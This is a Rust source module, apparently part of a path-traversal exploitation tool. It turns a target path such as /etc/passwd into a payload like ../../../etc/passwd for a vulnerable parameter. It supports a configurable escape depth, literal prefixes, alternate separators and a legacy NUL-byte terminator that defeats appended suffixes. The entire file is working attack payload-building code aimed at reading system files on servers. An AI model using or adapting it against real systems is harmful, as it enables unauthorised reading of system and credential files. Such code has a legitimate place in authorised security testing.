//! Traversal path construction.
//!
//! Turns a known absolute-style path such as `/etc/passwd` into the value
//! injected into the vulnerable parameter, e.g. `../../../etc/passwd`.

use serde::{Deserialize, Serialize};
use std::fmt;

/// The parent-directory component repeated for each escape level.
pub const PARENT_DIR: &str = "..";

/// NUL terminator appended when suffix truncation is requested.
pub const NULL_BYTE: char = '\0';

/// How the traversal prefix is produced.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Escape {
    /// Number of `..` segments to prepend.
    Depth(usize),
    /// A literal prefix used verbatim instead of `..` segments.
    Prefix(String),
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraversalSpec {
    pub escape: Escape,
    pub separator: char,
    /// Legacy technique against servers that append a suffix (e.g. `.php`)
    /// to the included path. Modern runtimes reject or ignore the NUL byte.
    pub terminate_with_null: bool,
}

impl TraversalSpec {
    pub fn depth(depth: usize) -> Self {
        Self {
            escape: Escape::Depth(depth),
            separator: '/',
            terminate_with_null: false,
        }
    }

    pub fn prefix(prefix: impl Into<String>) -> Self {
        Self {
            escape: Escape::Prefix(prefix.into()),
            separator: '/',
            terminate_with_null: false,
        }
    }

    pub fn with_separator(mut self, separator: char) -> Self {
        self.separator = separator;
        self
    }

    pub fn with_null_terminator(mut self, terminate: bool) -> Self {
        self.terminate_with_null = terminate;
        self
    }

    /// Escape depth, or `None` when a literal prefix is in use.
    pub fn escape_depth(&self) -> Option<usize> {
        match self.escape {
            Escape::Depth(n) => Some(n),
            Escape::Prefix(_) => None,
        }
    }

    /// Builds the value to inject for `target_path`.
    pub fn build_path(&self, target_path: &str) -> String {
        build_path(self, target_path)
    }
}

impl Default for TraversalSpec {
    fn default() -> Self {
        Self::depth(0)
    }
}

impl fmt::Display for TraversalSpec {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.escape {
            Escape::Depth(n) => write!(f, "depth {}", n)?,
            Escape::Prefix(p) => write!(f, "prefix {:?}", p)?,
        }
        if self.terminate_with_null {
            write!(f, " +NUL")?;
        }
        Ok(())
    }
}

/// Builds the traversal path for `target_path`.
///
/// The separators inside `target_path` are left untouched. A depth of zero
/// yields `target_path` itself.
pub fn build_path(traversal: &TraversalSpec, target_path: &str) -> String {
    let mut path = match &traversal.escape {
        Escape::Prefix(prefix) => format!("{}{}{}", prefix, traversal.separator, target_path),
        Escape::Depth(0) => target_path.to_string(),
        Escape::Depth(depth) => {
            let separator = traversal.separator.to_string();
            let up = vec![PARENT_DIR; *depth].join(&separator);
            format!("{}{}{}", up, separator, target_path)
        }
    };

    if traversal.terminate_with_null {
        path.push(NULL_BYTE);
    }

    path
}
